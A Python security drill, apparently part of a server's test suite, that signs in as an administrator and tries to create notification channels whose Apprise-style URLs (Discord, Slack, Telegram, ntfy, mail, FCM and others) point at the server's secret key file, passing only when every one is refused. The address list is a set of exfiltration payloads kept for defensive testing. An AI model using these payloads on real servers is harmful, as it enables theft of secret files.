"""An attacker with an administrator's account creates channels that would send files of the server."""

from pathlib import Path

from drills.drill import Drill, Outcome, running_server

ADDRESSES = (
    "discord://123456789012345678/abcdefghijklmnopqrstuvwxyz?template={file}",
    "slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ?template={file}",
    "tgram://123456789:abcdefg_hijklmnop/12315544/?template=file://{file}",
    "workflows://host:443/workflow/signature/?TEMPLATE={file}",
    "fcm://project/DEVICE?mode=oauth2&keyfile={file}",
    "vapid://user@example.com/a@example.com?keyfile={file}&subfile={file}",
    "mailto://user:pass@example.com?pgp=yes&pgppub={file}",
    "ntfy://topic?attach=file://{file}",
    "syslog://",
)


def run(place: Path) -> Outcome:
    with running_server(place) as server, server.admin() as admin:
        urls = [address.format(file=server.data / "secrets-key") for address in ADDRESSES]
        answers = [
            admin.post("/api/channels", {"name": "x", "kind": "apprise", "settings": {"url": url}}) for url in urls
        ]
        taken = len(admin.get("/api/channels").data)
    refused = sum(answer.status == 400 and "settings.url" in answer.body["data"]["fields"] for answer in answers)
    held = taken == 0 and refused == len(urls)
    return Outcome(held=held, seen=f"{refused} of {len(urls)} addresses were refused, {taken} channels made")


DRILL = Drill(attack="chat channels whose address names a file of the server, or its own log", run=run)
